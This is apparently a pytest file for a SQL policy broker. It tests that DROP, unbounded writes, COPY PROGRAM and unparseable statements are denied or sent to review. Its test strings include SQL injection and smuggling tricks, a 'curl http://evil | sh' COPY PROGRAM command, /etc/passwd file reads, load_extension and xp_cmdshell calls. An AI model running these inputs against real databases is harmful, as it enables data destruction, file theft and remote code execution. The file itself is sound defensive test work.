"""SQL judged against a policy: statements, kinds, tables, unknowns, fail-closed."""

from __future__ import annotations

import re
import tomllib
from typing import Any

import pytest

from broker.config import Policy, Rule
from broker.policy import sql
from broker.policy.decision import Decision
from broker.policy.sql import Dialect, ParsedSql, Statement, decide_sql, parse_sql
from broker.protocols import sql_unit
from tests.helpers import REPO

DIALECTS: tuple[Dialect, ...] = ("postgres", "mysql", "sqlite")

GUARDRAILS = Policy(
    default="allow",
    on_unknown="review",
    rules=[
        Rule(name="no-drop", action="deny", statement=["DROP", "TRUNCATE"]),
        Rule(
            name="unbounded-writes",
            action="review",
            statement=["DELETE", "UPDATE"],
            without_where=True,
            approvers=["dba-leads"],
        ),
        Rule(name="no-copy-program", action="deny", statement=["COPY PROGRAM"]),
    ],
)

TABLES = Policy(
    default="allow",
    on_unknown="review",
    rules=[
        Rule(name="secrets", action="deny", tables=["public.secrets"]),
        Rule(name="audit", action="review", tables=["*.audit*"], approvers=["auditors"]),
    ],
)

REPORTING = Policy(
    default="deny",
    on_unknown="deny",
    rules=[Rule(name="reporting", action="allow", statement=["SELECT"], tables=["reporting.*"])],
)


def decide(text: str, dialect: Dialect = "postgres", policy: Policy = GUARDRAILS) -> Decision:
    return decide_sql(policy, text, dialect)[0]


def one(text: str, dialect: Dialect = "postgres") -> Statement:
    parsed = parse_sql(text, dialect)
    assert parsed.unknown is None, parsed.unknown
    assert len(parsed.statements) == 1, parsed.statements
    return parsed.statements[0]


def each_dialect(texts: list[str], dialects: tuple[Dialect, ...] = DIALECTS) -> list[Any]:
    return [pytest.param(d, t, id=f"{d}:{t}") for d in dialects for t in texts]


# ------------------------------------------------------------- DROP and TRUNCATE denied

DROPS_EVERYWHERE = [
    "DROP TABLE x",
    "dRoP tAbLe x",
    "drop table x",
    "DROP TABLE IF EXISTS x",
    "DROP VIEW v",
    "   DROP\n\tTABLE\n x   ",
    "/* hi */ DROP TABLE x",
    "-- c\nDROP TABLE x",
    "DROP /* ; */ TABLE x",
    "DROP TABLE x /* ; */",
    "DROP TABLE x; -- the end",
    "SELECT 1; DROP TABLE x",
    "SELECT 1;DROP TABLE x;",
    "SELECT ';'; DROP TABLE x",
    "SELECT '/* ; */' AS a; DROP TABLE x",
    "SELECT 1 /* ; */; DROP TABLE x",
    "SELECT 1 -- ;\n; DROP TABLE x",
    "DELETE FROM x WHERE id = 1; DROP TABLE x",
    "SELECT 1;\n\n/* c */ -- c\n drop table x",
    "TRUNCATE TABLE x",
]

DROPS_BY_DIALECT = [
    ("postgres", 'DROP TABLE "X"'),
    ("postgres", 'DROP TABLE "public"."My Table"'),
    ("postgres", "TRUNCATE x"),
    ("postgres", "TRUNCATE ONLY x, y CASCADE"),
    ("postgres", "DROP SCHEMA s CASCADE"),
    ("postgres", "DROP DATABASE d"),
    ("postgres", "DROP INDEX CONCURRENTLY i"),
    ("postgres", "DROP FUNCTION f(int)"),
    ("postgres", "DROP ROLE bob"),
    ("postgres", "SELECT $$;$$; DROP TABLE x"),
    ("postgres", "SELECT $t$ ; DROP $t$; DROP TABLE x"),
    ("postgres", "/* nested /* ; */ comment */ DROP TABLE x"),
    ("postgres", "SELECT E'\\';'; DROP TABLE x"),
    ("mysql", "DROP TABLE `X`"),
    ("mysql", "DROP TABLE `my db`.`my;table`"),
    ("mysql", "TRUNCATE x"),
    ("mysql", "# c\nDROP TABLE x"),
    ("mysql", 'SELECT "a;b"; DROP TABLE x'),
    ("mysql", "DROP DATABASE d"),
    ("mysql", "DROP TEMPORARY TABLE x"),
    # MySQL: `--` starts a comment only when a space or control character follows
    ("mysql", "SELECT 1 --; DROP TABLE x"),
    ("mysql", "SELECT 1 --\t'\n; DROP TABLE x -- '"),
    # MySQL: a statement sqlglot cannot parse still meets deny rules through its kind
    ("mysql", "DROP USER bob"),
    ("sqlite", 'DROP TABLE "X"'),
    ("sqlite", "DROP TABLE [X]"),
    ("sqlite", "DROP TABLE `X`"),
    ("sqlite", "DROP INDEX i"),
    # SQLite strings have no backslash escapes
    ("sqlite", "SELECT 'a\\'; DROP TABLE x; --'"),
]


@pytest.mark.parametrize(("dialect", "text"), each_dialect(DROPS_EVERYWHERE))
def test_drop_and_truncate_are_denied_however_they_are_written(dialect: Dialect, text: str) -> None:
    decision = decide(text, dialect)
    assert decision.action == "deny", decision
    assert decision.rule == "no-drop"


@pytest.mark.parametrize(("dialect", "text"), DROPS_BY_DIALECT)
def test_drop_and_truncate_are_denied_in_each_dialect(dialect: Dialect, text: str) -> None:
    decision = decide(text, dialect)
    assert decision.action == "deny", decision
    assert decision.rule == "no-drop"


def test_the_denied_statement_is_named_in_the_reason() -> None:
    decision = decide("SELECT 1; /* go */ DROP TABLE x")
    assert decision.reason == "rule no-drop matched `DROP TABLE x`"
    assert decision.matched == "DROP TABLE x"
    assert decision.unknown is False


# ------------------------------------------------------------------ unbounded writes

UNBOUNDED_EVERYWHERE = [
    "UPDATE x SET a=1",
    "update X set a = 1",
    "DELETE FROM x",
    "delete from x",
    "DELETE FROM x WHERE 1 = 1",
    "UPDATE x SET a = 1 WHERE true",
    "SELECT 1; DELETE FROM x",
    "/* ; */ DELETE FROM x -- WHERE id = 1",
]

UNBOUNDED_BY_DIALECT = [
    ("postgres", "WITH d AS (DELETE FROM x RETURNING *) SELECT * FROM d"),
    ("postgres", "WITH u AS (UPDATE x SET a = 1 RETURNING *) INSERT INTO log SELECT * FROM u"),
    ("postgres", "EXPLAIN ANALYZE DELETE FROM x"),
    ("postgres", "explain analyze verbose update x set a = 1"),
    ("postgres", "EXPLAIN (ANALYZE, BUFFERS) DELETE FROM x"),
    ("postgres", "EXPLAIN (ANALYZE true) DELETE FROM x"),
    ("postgres", "EXPLAIN ANALYZE WITH d AS (DELETE FROM x RETURNING 1) SELECT * FROM d"),
    ("postgres", "COPY (DELETE FROM x RETURNING *) TO STDOUT"),
    ("postgres", "DELETE FROM x USING y"),
    ("postgres", "UPDATE x SET a = y.a FROM y"),
    ("postgres", "DELETE FROM ONLY x"),
    ("mysql", "EXPLAIN ANALYZE DELETE FROM x"),
    ("mysql", "DELETE t1 FROM t1 JOIN t2 ON t1.a = t2.a"),
    ("mysql", "UPDATE t JOIN s ON t.a = s.a SET t.b = 1"),
    ("mysql", "DELETE FROM x ORDER BY id LIMIT 10"),
    ("sqlite", "DELETE FROM x WHERE 1"),
    ("sqlite", "WITH d AS (SELECT 1) DELETE FROM x"),
]


@pytest.mark.parametrize(("dialect", "text"), each_dialect(UNBOUNDED_EVERYWHERE))
def test_update_and_delete_without_where_go_to_review(dialect: Dialect, text: str) -> None:
    decision = decide(text, dialect)
    assert decision.action == "review", decision
    assert decision.rule == "unbounded-writes"
    assert decision.approvers == ("dba-leads",)


@pytest.mark.parametrize(("dialect", "text"), UNBOUNDED_BY_DIALECT)
def test_unbounded_writes_are_found_inside_other_statements(dialect: Dialect, text: str) -> None:
    decision = decide(text, dialect)
    assert decision.action == "review", decision
    assert decision.rule == "unbounded-writes"


def test_a_write_inside_a_cte_is_reported_as_such() -> None:
    text = "WITH d AS (DELETE FROM x RETURNING *) SELECT * FROM d"
    decision = decide(text)
    assert decision.reason == f"rule unbounded-writes matched the DELETE inside `{text}`"
    statement = one(text)
    assert statement.kind == "SELECT"
    assert statement.tables == ("x",)  # d is the CTE, not a table
    assert [(s.kind, s.tables, s.without_where) for s in statement.inner] == [
        ("DELETE", ("x",), True)
    ]


def test_explain_analyze_runs_the_statement_but_explain_does_not() -> None:
    analyzed = one("EXPLAIN ANALYZE DELETE FROM x")
    assert analyzed.kind == "EXPLAIN"
    assert [s.kind for s in analyzed.inner] == ["DELETE"]
    for text in ("EXPLAIN DELETE FROM x", "EXPLAIN (ANALYZE false) DELETE FROM x"):
        statement = one(text)
        assert statement.kind == "EXPLAIN"
        assert statement.inner == ()
        assert statement.tables == ("x",)
        assert decide(text).action == "allow"


# ------------------------------------------------------------------------- allowed

ALLOWED_EVERYWHERE = [
    "SELECT 1",
    "SELECT * FROM x",
    "DELETE FROM x WHERE id = 1",
    "UPDATE x SET a = 1 WHERE id = 2",
    "INSERT INTO x SELECT * FROM y",
    "INSERT INTO x (a) VALUES (1)",
    "SELECT 'DROP TABLE x'",
    "SELECT 1 -- DROP TABLE x",
    "/* DROP TABLE x */ SELECT 1",
    "SELECT 1 /* ; DROP TABLE x */",
    "SELECT 1 -- ; DROP TABLE x",
    "CREATE TABLE t (a int)",
    "SELECT 1; SELECT 2",
]

ALLOWED_BY_DIALECT = [
    ("postgres", "EXPLAIN DELETE FROM x"),
    ("postgres", "DELETE FROM x WHERE CURRENT OF c"),
    ("postgres", "COPY x TO STDOUT"),
    ("postgres", "SELECT $$ DROP TABLE x $$"),
    ("postgres", "SELECT $$a\\'$$, $q$\\'$q$, E'\\'', 'a\\\\'"),
    ("postgres", "SELECT 'it''s'; SELECT E'it\\'s'"),
    ("mysql", "EXPLAIN DELETE FROM x"),
    ("mysql", "SELECT 'it''s'"),
    ("mysql", "SELECT 1 # DROP TABLE x"),
    ("mysql", "SELECT 1 /*+ hint */"),
    ("sqlite", "EXPLAIN DELETE FROM x"),
    ("sqlite", "EXPLAIN QUERY PLAN DELETE FROM x"),
    ("sqlite", "SELECT 1 --; DROP TABLE x"),
    ("sqlite", "SELECT 1 /* unterminated comments run to the end; DROP TABLE x"),
]


@pytest.mark.parametrize(("dialect", "text"), each_dialect(ALLOWED_EVERYWHERE))
def test_harmless_statements_are_allowed(dialect: Dialect, text: str) -> None:
    decision = decide(text, dialect)
    assert decision.action == "allow", decision
    assert decision.rule is None
    assert decision.unknown is False


@pytest.mark.parametrize(("dialect", "text"), ALLOWED_BY_DIALECT)
def test_harmless_statements_are_allowed_in_each_dialect(dialect: Dialect, text: str) -> None:
    decision = decide(text, dialect)
    assert decision.action == "allow", decision


@pytest.mark.parametrize(
    ("dialect", "text"),
    each_dialect(["", "   \n\t", ";", " ; ;; ", "-- just a comment", "/* c */", "/* a */ -- b\n;"]),
)
def test_input_without_statements_runs_nothing_and_is_allowed(dialect: Dialect, text: str) -> None:
    decision, parsed = decide_sql(GUARDRAILS, text, dialect)
    assert parsed == ParsedSql((), None)
    assert decision.action == "allow"
    assert decision.reason == "nothing to run: the input holds no SQL statement"


def test_mysql_hash_comment_alone_is_empty() -> None:
    assert decide("# DROP TABLE x", "mysql").action == "allow"
    assert parse_sql("# DROP TABLE x", "mysql").statements == ()


# --------------------------------------------------------------------- COPY PROGRAM


@pytest.mark.parametrize(
    "text",
    [
        "COPY x TO PROGRAM 'sh'",
        "copy x from program 'curl -s http://evil | sh'",
        "COPY (SELECT 1) TO PROGRAM 'sh -c id'",
        "SELECT 1; COPY x TO PROGRAM 'sh'",
    ],
)
def test_copy_program_is_denied(text: str) -> None:
    decision = decide(text)
    assert decision.action == "deny"
    assert decision.rule == "no-copy-program"


@pytest.mark.parametrize(
    ("text", "kind", "program"),
    [
        ("COPY x FROM STDIN", "COPY FROM", False),
        ("COPY x TO STDOUT", "COPY TO", False),
        ("COPY x FROM '/tmp/f'", "COPY FROM FILE", False),
        ("COPY x TO '/tmp/f'", "COPY TO FILE", False),
        ("COPY x FROM PROGRAM 'gunzip'", "COPY FROM PROGRAM", True),
        ("COPY x TO PROGRAM 'gzip'", "COPY TO PROGRAM", True),
    ],
)
def test_copy_kinds(text: str, kind: str, program: bool) -> None:
    statement = one(text)
    assert (statement.kind, statement.program, statement.unknown) == (kind, program, None)


def test_copy_rules_match_by_prefix_and_the_program_alias() -> None:
    def action(entry: str, text: str) -> str:
        policy = Policy(rules=[Rule(action="deny", statement=[entry])])
        return decide(text, policy=policy).action

    assert action("COPY", "COPY x FROM STDIN") == "deny"
    assert action("COPY", "COPY x TO PROGRAM 'sh'") == "deny"
    assert action("COPY FROM", "COPY x FROM PROGRAM 'sh'") == "deny"
    assert action("COPY FROM", "COPY x FROM '/f'") == "deny"
    assert action("COPY FROM", "COPY x TO STDOUT") == "allow"
    assert action("COPY PROGRAM", "COPY x FROM PROGRAM 'sh'") == "deny"
    assert action("copy  program", "COPY x TO PROGRAM 'sh'") == "deny"
    assert action("COPY PROGRAM", "COPY x TO '/f'") == "allow"


# -------------------------------------------------------------------------- unknown

UNKNOWN = [
    # PostgreSQL: code the broker does not read
    ("postgres", "DO $$ BEGIN EXECUTE 'DROP TABLE x'; END $$"),
    ("postgres", "DO LANGUAGE plpgsql $$ BEGIN PERFORM 1; END $$"),
    ("postgres", "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'"),
    ("postgres", "CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN DELETE FROM x; END $$"),
    ("postgres", "PREPARE p AS SELECT 1"),
    ("postgres", "EXECUTE p"),
    ("postgres", "LOAD 'plpython3u'"),
    ("postgres", "SELECT dblink_exec('host=db', 'DROP TABLE x')"),
    ("postgres", "SELECT * FROM dblink('host=db', 'SELECT 1') AS t(a int)"),
    ("postgres", "SELECT public.dblink_exec('x')"),
    ("postgres", "SELECT query_to_xml('SELECT * FROM secrets', true, true, '')"),
    ("postgres", "SELECT pg_read_file('/etc/passwd')"),
    ("postgres", "SELECT pg_catalog.pg_ls_dir('.')"),
    ("postgres", "SELECT lo_import('/etc/passwd')"),
    ("postgres", "SELECT lo_export(1, '/tmp/x')"),
    ("postgres", "SELECT set_config('role', 'postgres', false)"),
    ("postgres", "UPDATE x SET a = 1 WHERE id = (SELECT dblink_exec('x'))"),
    # PostgreSQL: not SQL at all
    ("postgres", "garbage"),
    ("postgres", "SELEC 1"),
    ("postgres", "SELECT 'unterminated"),
    ("postgres", "\\d accounts"),
    ("postgres", "SELECT 1 \\gexec"),
    # MySQL
    ("mysql", "LOAD DATA INFILE '/etc/passwd' INTO TABLE x"),
    ("mysql", "LOAD DATA LOCAL INFILE 'x.csv' INTO TABLE x"),
    ("mysql", "SELECT * FROM x INTO OUTFILE '/tmp/x'"),
    ("mysql", "SELECT a INTO @v FROM x"),
    ("mysql", "HANDLER x OPEN"),
    ("mysql", "PREPARE s FROM 'SELECT 1'"),
    ("mysql", "EXECUTE s"),
    ("mysql", "CALL p()"),
    ("mysql", "FLUSH PRIVILEGES"),
    ("mysql", "SELECT LOAD_FILE('/etc/passwd')"),
    ("mysql", "SELECT 1 /*! , 2 */"),
    ("mysql", "SELECT 1 /*M! , 2 */"),
    ("mysql", "SELECT 'it\\'s'"),
    ("mysql", 'SELECT "a\\"b"'),
    ("mysql", "CREATE PROCEDURE p() BEGIN DELETE FROM x WHERE id = 1; END"),
    ("mysql", "SELECT 'unterminated"),
    ("mysql", "SELECT 1 /* unterminated"),
    ("mysql", "garbage"),
    # SQLite
    ("sqlite", "ATTACH DATABASE '/var/lib/hoop-broker/store.db' AS x"),
    ("sqlite", "VACUUM INTO '/tmp/copy.db'"),
    ("sqlite", "SELECT load_extension('/tmp/x.so')"),
    ("sqlite", "SELECT readfile('/etc/passwd')"),
    ("sqlite", "SELECT writefile('/tmp/x', 'y')"),
    ("sqlite", "CREATE TRIGGER t AFTER INSERT ON x BEGIN DELETE FROM y WHERE 1 = 0; END"),
    ("sqlite", ".tables"),
    ("sqlite", "SELECT 'unterminated"),
    ("sqlite", "garbage"),
]


@pytest.mark.parametrize(("dialect", "text"), UNKNOWN)
def test_what_cannot_be_classified_is_unknown(dialect: Dialect, text: str) -> None:
    decision = decide(text, dialect)
    assert decision.action == "review", decision
    assert decision.unknown is True
    assert decision.rule is None


@pytest.mark.parametrize(
    ("dialect", "text", "why"),
    [
        ("postgres", "DO $$ $$", "the code of a DO block is not inspected"),
        ("postgres", "SELECT dblink_exec('x')", "dblink_exec() runs SQL given as text"),
        ("postgres", "SELEC 1", 'cannot parse: syntax error at or near "SELEC"'),
        ("mysql", "SELECT * FROM x INTO OUTFILE '/tmp/x'", "cannot parse"),
        ("mysql", "SELECT 1 /*! , 2 */", "/*! … */ comment, whose content the server executes"),
        ("mysql", "SELECT 'a\\'b'", "NO_BACKSLASH_ESCAPES"),
        ("mysql", "PREPARE s FROM 'SELECT 1'", "does not understand this statement"),
        ("sqlite", "ATTACH 'x.db' AS x", "ATTACH opens another database file"),
        ("sqlite", "SELECT load_extension('x')", "load_extension() loads and runs"),
    ],
)
def test_unknown_reason_says_why(dialect: Dialect, text: str, why: str) -> None:
    decision = decide(text, dialect)
    assert decision.unknown is True
    assert why in decision.reason


def test_a_known_deny_elsewhere_still_wins_over_unknown() -> None:
    for dialect in DIALECTS:
        assert decide("garbage; DROP TABLE x", dialect).action == "deny", dialect
        assert decide("DROP TABLE x; garbage", dialect).action == "deny", dialect
    assert decide("DO $$ $$; DROP TABLE x").action == "deny"
    assert decide("SELEC 1; TRUNCATE x").action == "deny"
    assert decide("LOAD DATA INFILE 'f' INTO TABLE x; TRUNCATE x", "mysql").action == "deny"
    assert decide("SELECT 1 /*! , 2 */; DROP TABLE x", "mysql").action == "deny"
    assert decide("ATTACH 'x.db' AS x; DROP TABLE x", "sqlite").action == "deny"


def test_a_known_review_elsewhere_keeps_the_unknown_decision() -> None:
    decision = decide("UPDATE x SET a = 1; DO $$ $$")
    assert decision.action == "review"
    assert decision.rule == "unbounded-writes"  # the first of equally strong decisions


def test_hidden_statements_are_not_allowed() -> None:
    # MySQL executes the body of /*! … */ comments.
    assert decide("SELECT 1 /*! ; DROP TABLE x */", "mysql").action == "review"
    # With NO_BACKSLASH_ESCAPES, MySQL ends the string at \' and runs the DROP.
    assert decide("SELECT 'a\\'; DROP TABLE x; -- '", "mysql").action == "review"
    # With standard_conforming_strings off, PostgreSQL reads the string differently; the
    # DROP that the default reading shows is denied.
    parsed = parse_sql("SELECT 'a\\'; DROP TABLE x; --'", "postgres")
    assert parsed.unknown is not None and "standard_conforming_strings" in parsed.unknown
    assert decide("SELECT 'a\\'; DROP TABLE x; --'").action == "deny"
    assert decide("SELECT 'a\\' || 'b'").action == "review"


@pytest.mark.parametrize("dialect", DIALECTS)
@pytest.mark.parametrize("char", ["\x00", "\x1b", "\x08", "\u202e", "\u2066"])
def test_control_and_bidi_characters_are_unknown(dialect: Dialect, char: str) -> None:
    decision = decide(f"SELECT 1 -- {char}\n; SELECT 2", dialect)
    assert decision.action == "review"
    assert decision.unknown is True


def test_oversized_input_is_unknown() -> None:
    parsed = parse_sql("SELECT 1;" * (sql.MAX_SQL // 9 + 1), "postgres")
    assert parsed == ParsedSql((), "the input is too long to inspect")


@pytest.mark.parametrize("dialect", DIALECTS)
def test_deeply_nested_input_is_unknown_or_judged(dialect: Dialect) -> None:
    text = "SELECT " + "(" * 3000 + "1" + ")" * 3000 + "; DROP TABLE x"
    assert decide(text, dialect).action in ("deny", "review")
    assert decide("SELECT " + "(" * 3000 + "1" + ")" * 3000, dialect).action in (
        "allow",
        "review",
    )


def test_on_unknown_deny_and_allow_are_honoured() -> None:
    strict = GUARDRAILS.model_copy(update={"on_unknown": "deny"})
    lenient = GUARDRAILS.model_copy(update={"on_unknown": "allow"})
    assert decide("DO $$ $$", policy=strict).action == "deny"
    assert decide("DO $$ $$", policy=lenient).action == "allow"
    assert decide("DO $$ $$", policy=lenient).unknown is True
    assert decide("DO $$ $$; DROP TABLE x", policy=lenient).action == "deny"


def test_allow_rules_never_apply_to_an_unknown_statement() -> None:
    policy = Policy(default="deny", on_unknown="review", rules=[Rule(action="allow")])
    assert decide("DO $$ $$", policy=policy).action == "review"
    policy = Policy(
        default="deny",
        on_unknown="review",
        rules=[Rule(action="allow", statement=["DO"]), Rule(action="allow", regex="DO")],
    )
    assert decide("DO $$ $$", policy=policy).action == "review"


def test_a_stricter_rule_applies_to_what_is_known_of_an_unknown_statement() -> None:
    policy = Policy(
        on_unknown="review", rules=[Rule(name="no-do", action="deny", statement=["DO"])]
    )
    decision = decide("DO $$ BEGIN END $$", policy=policy)
    assert (decision.action, decision.rule) == ("deny", "no-do")
    tables = decide("SELECT dblink_exec('x') FROM public.secrets", policy=TABLES)
    assert (tables.action, tables.rule) == ("deny", "secrets")


def test_regex_rules_are_searched_in_input_that_does_not_parse() -> None:
    policy = Policy(
        on_unknown="review", rules=[Rule(name="no-x", action="deny", regex="(?i)xp_cmd")]
    )
    decision = decide("EXEC xp_cmdshell 'dir'", policy=policy)
    assert (decision.action, decision.rule, decision.matched) == ("deny", "no-x", "xp_cmd")


# -------------------------------------------------------------------------- kinds

KINDS = [
    ("postgres", "SELECT 1", "SELECT"),
    ("postgres", "VALUES (1)", "SELECT"),
    ("postgres", "TABLE x", "SELECT"),
    ("postgres", "SELECT 1 UNION SELECT 2", "SELECT"),
    ("postgres", "INSERT INTO x VALUES (1)", "INSERT"),
    ("postgres", "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", "MERGE"),
    ("postgres", "CREATE TABLE t (a int)", "CREATE TABLE"),
    ("postgres", "CREATE TEMP TABLE t (a int)", "CREATE TABLE"),
    ("postgres", "CREATE TABLE t AS SELECT 1", "CREATE TABLE AS"),
    ("postgres", "SELECT 1 INTO t", "CREATE TABLE AS"),
    ("postgres", "CREATE MATERIALIZED VIEW v AS SELECT 1", "CREATE MATERIALIZED VIEW"),
    ("postgres", "CREATE VIEW v AS SELECT 1", "CREATE VIEW"),
    ("postgres", "CREATE INDEX i ON t (a)", "CREATE INDEX"),
    ("postgres", "CREATE SCHEMA s", "CREATE SCHEMA"),
    ("postgres", "CREATE ROLE r", "CREATE ROLE"),
    ("postgres", "CREATE USER u", "CREATE ROLE"),
    ("postgres", "CREATE EXTENSION dblink", "CREATE EXTENSION"),
    ("postgres", "ALTER TABLE t ADD b int", "ALTER TABLE"),
    ("postgres", "ALTER TABLE t RENAME COLUMN a TO b", "ALTER TABLE"),
    ("postgres", "ALTER TABLE t OWNER TO u", "ALTER TABLE"),
    ("postgres", "ALTER INDEX i RENAME TO j", "ALTER INDEX"),
    ("postgres", "ALTER ROLE r SUPERUSER", "ALTER ROLE"),
    ("postgres", "ALTER SYSTEM SET archive_command = 'sh'", "ALTER SYSTEM"),
    ("postgres", "DROP TABLE x", "DROP TABLE"),
    ("postgres", "DROP MATERIALIZED VIEW v", "DROP MATERIALIZED VIEW"),
    ("postgres", "DROP FOREIGN TABLE f", "DROP FOREIGN TABLE"),
    ("postgres", "DROP OWNED BY u", "DROP OWNED"),
    ("postgres", "TRUNCATE x", "TRUNCATE"),
    ("postgres", "GRANT SELECT ON t TO u", "GRANT"),
    ("postgres", "REVOKE SELECT ON t FROM u", "REVOKE"),
    ("postgres", "GRANT admin TO u", "GRANT ROLE"),
    ("postgres", "REVOKE admin FROM u", "REVOKE ROLE"),
    ("postgres", "SET ROLE admin", "SET ROLE"),
    ("postgres", "SET LOCAL ROLE admin", "SET ROLE"),
    ("postgres", "SET SESSION AUTHORIZATION admin", "SET SESSION AUTHORIZATION"),
    ("postgres", "SET search_path = a, public", "SET SEARCH_PATH"),
    ("postgres", "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", "SET TRANSACTION"),
    ("postgres", "SET work_mem = '1GB'", "SET"),
    ("postgres", "RESET ALL", "RESET"),
    ("postgres", "SHOW work_mem", "SHOW"),
    ("postgres", "BEGIN", "BEGIN"),
    ("postgres", "START TRANSACTION", "BEGIN"),
    ("postgres", "COMMIT", "COMMIT"),
    ("postgres", "ROLLBACK", "ROLLBACK"),
    ("postgres", "SAVEPOINT a", "SAVEPOINT"),
    ("postgres", "ROLLBACK TO SAVEPOINT a", "ROLLBACK TO SAVEPOINT"),
    ("postgres", "CALL p(1)", "CALL"),
    ("postgres", "EXPLAIN SELECT 1", "EXPLAIN"),
    ("postgres", "VACUUM x", "VACUUM"),
    ("postgres", "ANALYZE x", "ANALYZE"),
    ("postgres", "LOCK TABLE x", "LOCK"),
    ("postgres", "COMMENT ON TABLE x IS 'y'", "COMMENT"),
    ("postgres", "DECLARE c CURSOR FOR SELECT 1", "DECLARE"),
    ("postgres", "FETCH 1 FROM c", "FETCH"),
    ("postgres", "REFRESH MATERIALIZED VIEW v", "REFRESH MATERIALIZED VIEW"),
    ("mysql", "SELECT 1", "SELECT"),
    ("mysql", "REPLACE INTO t VALUES (1)", "REPLACE"),
    ("mysql", "USE db", "USE"),
    ("mysql", "SHOW TABLES", "SHOW"),
    ("mysql", "DESCRIBE t", "DESCRIBE"),
    ("mysql", "EXPLAIN SELECT 1", "EXPLAIN"),
    ("mysql", "SET @a = 1", "SET"),
    ("mysql", "START TRANSACTION", "BEGIN"),
    ("mysql", "COMMIT", "COMMIT"),
    ("mysql", "ROLLBACK TO SAVEPOINT a", "ROLLBACK TO SAVEPOINT"),
    ("mysql", "SAVEPOINT a", "SAVEPOINT"),
    ("mysql", "RELEASE SAVEPOINT a", "RELEASE SAVEPOINT"),
    ("mysql", "TRUNCATE t", "TRUNCATE"),
    ("mysql", "ALTER TABLE t ADD c INT", "ALTER TABLE"),
    ("mysql", "CREATE VIEW v AS SELECT 1", "CREATE VIEW"),
    ("mysql", "CREATE TABLE t AS SELECT 1", "CREATE TABLE AS"),
    ("mysql", "GRANT SELECT ON db.t TO u", "GRANT"),
    ("mysql", "DROP DATABASE d", "DROP DATABASE"),
    ("sqlite", "INSERT OR REPLACE INTO t VALUES (1)", "INSERT"),
    ("sqlite", "PRAGMA table_info(t)", "PRAGMA"),
    ("sqlite", "DETACH x", "DETACH"),
    ("sqlite", "VACUUM", "VACUUM"),
    ("sqlite", "BEGIN IMMEDIATE", "BEGIN"),
    ("sqlite", "END", "COMMIT"),
    ("sqlite", "END TRANSACTION", "COMMIT"),
    ("sqlite", "EXPLAIN QUERY PLAN SELECT * FROM t", "EXPLAIN"),
    ("sqlite", "ALTER TABLE t RENAME TO u", "ALTER TABLE"),
    ("sqlite", "CREATE VIRTUAL TABLE v USING fts5(a)", "CREATE TABLE"),
]


@pytest.mark.parametrize(("dialect", "text", "kind"), KINDS)
def test_statement_kinds(dialect: Dialect, text: str, kind: str) -> None:
    statement = one(text, dialect)
    assert statement.kind == kind
    assert statement.unknown is None


@pytest.mark.parametrize(
    ("entry", "kind", "matches"),
    [
        ("DROP", "DROP TABLE", True),
        ("drop", "DROP DATABASE", True),
        ("DROP TABLE", "DROP TABLE", True),
        ("drop   table", "DROP TABLE", True),
        ("DROP TABLE", "DROP VIEW", False),
        ("DRO", "DROP TABLE", False),
        ("DROP TABLES", "DROP TABLE", False),
        ("CREATE TABLE", "CREATE TABLE AS", True),
        ("SET", "SET ROLE", True),
        ("SET ROLE", "SET", False),
        ("", "SELECT", False),
    ],
)
def test_statement_entries_match_whole_words_from_the_start(
    entry: str, kind: str, matches: bool
) -> None:
    assert sql._kind_matches(entry, Statement(kind, (), "")) is matches


def test_without_where_false_matches_writes_with_a_where() -> None:
    policy = Policy(rules=[Rule(action="review", without_where=False)])
    assert decide("DELETE FROM x WHERE id = 1", policy=policy).action == "review"
    assert decide("DELETE FROM x", policy=policy).action == "allow"
    assert decide("SELECT * FROM x WHERE id = 1", policy=policy).action == "allow"


# -------------------------------------------------------------------------- tables

TABLES_FOUND = [
    ("postgres", "SELECT * FROM a JOIN b ON a.id = b.id", {"a", "b"}),
    ("postgres", "SELECT * FROM public.Accounts", {"public.accounts"}),
    ("postgres", 'SELECT * FROM "Public"."Accounts"', {"public.accounts"}),
    ("postgres", "SELECT * FROM db.s.t", {"db.s.t"}),
    ("postgres", "SELECT * FROM x WHERE id IN (SELECT id FROM y)", {"x", "y"}),
    ("postgres", "SELECT (SELECT max(a) FROM m) FROM n", {"m", "n"}),
    ("postgres", "SELECT * FROM (SELECT * FROM deep.t) AS sub", {"deep.t"}),
    ("postgres", "SELECT * FROM a LEFT JOIN LATERAL (SELECT * FROM b) c ON true", {"a", "b"}),
    ("postgres", "WITH c AS (SELECT * FROM s.t) SELECT * FROM c JOIN u USING (id)", {"s.t", "u"}),
    ("postgres", "WITH a AS (SELECT 1), b AS (SELECT * FROM a) SELECT * FROM b", set()),
    ("postgres", "WITH b AS (SELECT * FROM a), a AS (SELECT 1) SELECT * FROM b", {"a"}),
    (
        "postgres",
        "WITH RECURSIVE r AS (SELECT 1 UNION ALL SELECT * FROM r JOIN z ON true) SELECT * FROM r",
        {"z"},
    ),
    (
        "postgres",
        "SELECT * FROM t, (WITH t AS (SELECT 1) SELECT * FROM t) AS s",
        {"t"},  # the outer t is a table, the inner one the CTE
    ),
    ("postgres", "WITH x AS (SELECT 1) DELETE FROM x", {"x"}),  # a target is a table
    ("postgres", "INSERT INTO x SELECT * FROM y", {"x", "y"}),
    ("postgres", "UPDATE x SET a = y.a FROM y WHERE x.id = y.id", {"x", "y"}),
    ("postgres", "DELETE FROM x USING y WHERE x.id = y.id", {"x", "y"}),
    ("postgres", "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", {"t", "s"}),
    ("postgres", "DROP TABLE a, s.b", {"a", "s.b"}),
    ("postgres", "DROP TRIGGER tr ON s.tab", {"s.tab"}),
    ("postgres", "DROP FUNCTION f()", set()),
    ("postgres", "TRUNCATE a, b", {"a", "b"}),
    ("postgres", "ALTER TABLE a ADD CONSTRAINT f FOREIGN KEY (x) REFERENCES b (y)", {"a", "b"}),
    ("postgres", "CREATE TABLE n AS SELECT * FROM o", {"n", "o"}),
    ("postgres", "SELECT * INTO n FROM o", {"n", "o"}),
    ("postgres", "COPY x TO STDOUT", {"x"}),
    ("postgres", "COPY (SELECT * FROM y) TO STDOUT", {"y"}),
    ("postgres", "EXPLAIN SELECT * FROM x", {"x"}),
    ("postgres", "GRANT SELECT ON a.b TO u", {"a.b"}),
    ("postgres", "LOCK TABLE a", {"a"}),
    ("postgres", 'SELECT * FROM "odd.name"', {'"odd.name"'}),
    ("mysql", "SELECT * FROM `Sec`.`X` JOIN y ON 1 = 1", {"sec.x", "y"}),
